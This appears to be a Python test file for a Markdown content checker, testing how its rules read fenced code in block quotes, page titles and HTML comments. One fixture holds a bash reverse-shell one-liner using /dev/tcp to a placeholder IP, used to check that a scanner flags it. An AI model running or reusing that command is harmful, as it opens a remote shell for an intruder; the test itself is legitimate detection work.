"""Rules that once read Markdown blocks each their own way now agree (core/blocks.py).

Before, fenced code was found six times over, and the copies disagreed: a fence inside a
block quote was prose for the content scan but code for CAC300, a heading inside an HTML
comment was the page's title, "# Learn C#" lost its "#", an HTML comment opened in one
paragraph hid the rest of the page from CAC300. These pages show the CommonMark reading
that every rule now shares.
"""

from __future__ import annotations

from pathlib import Path

from tests.rules.helpers import check, line_of

SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
META = (
    "---\nthreatpub:\n  kind: vulnerability\n"
    "  target: {operator: Example Metro Co., system: ticketing}\n---\n"
)

# A reverse shell and hype, both inside a fenced block inside a block quote.
QUOTED = (
    f"{META}# Lab notes\n\n"
    "> The operator's log, quoted:\n>\n"
    f"> ```bash\n> {SHELL}\n> # the most dangerous bug ever\n> ```\n"
)


def test_a_fence_in_a_block_quote_is_code_for_every_rule(tmp_path: Path) -> None:
    run = check(tmp_path, {"quoted.md": QUOTED}, options={"profiles": ["cac-2019", "miit-2021"]})
    page = run.page("quoted.md")
    shell = page.one("CAC402")
    # The content scan reads it as code, with its language (it was "prose")...
    assert shell["found"] == "reverse shell (/dev/tcp redirection) in a bash code block"
    assert shell["line"] == line_of(QUOTED, "/dev/tcp")
    # ...CAC300 leaves it out as code (it always did)...
    assert page.all("CAC300") == []
    # ...and MIIT092 counts it as a fenced block of a page about a system in use.
    fenced = [f for f in page.all("MIIT092") if "a bash code block" in f["found"]]
    assert [f["line"] for f in fenced] == [line_of(QUOTED, "/dev/tcp")]


def test_the_title_is_the_first_top_level_h1(tmp_path: Path) -> None:
    pages = {
        # A heading inside an HTML comment is no heading (it was the title).
        "comment.md": "<!--\n# Draft title\n-->\n\n# Published title\n",
        # The closing sequence needs a space before it (the title was "Learn C").
        "sharp.md": "# Learn C#\n",
        # A setext heading is its whole paragraph (the title was its last line).
        "setext.md": "Heap overflow in\nlibexample 2.4\n==============\n",
        # Inside a quote it is not the page's title.
        "quoted.md": "> # Quoted\n\n# Own title\n",
    }
    run = check(tmp_path, pages)
    titles = {path: run.page(path).data["title"] for path in pages}
    assert titles == {
        "comment.md": "Published title",
        "sharp.md": "Learn C#",
        "setext.md": "Heap overflow in libexample 2.4",
        "quoted.md": "Own title",
    }


def test_an_html_comment_never_runs_on_past_its_paragraph(tmp_path: Path) -> None:
    """An unclosed ``<!--`` inside a paragraph is literal text in CommonMark: the next
    paragraph is shown, so CAC300 reads it (it used to be hidden up to the next ``-->``)."""
    text = f"{META}# Notes\n\nSee the log <!-- excerpt follows\n\nThe most dangerous bug ever.\n"
    run = check(tmp_path, {"notes.md": text})
    hype = run.page("notes.md").one("CAC300")
    assert hype["line"] == line_of(text, "most dangerous")
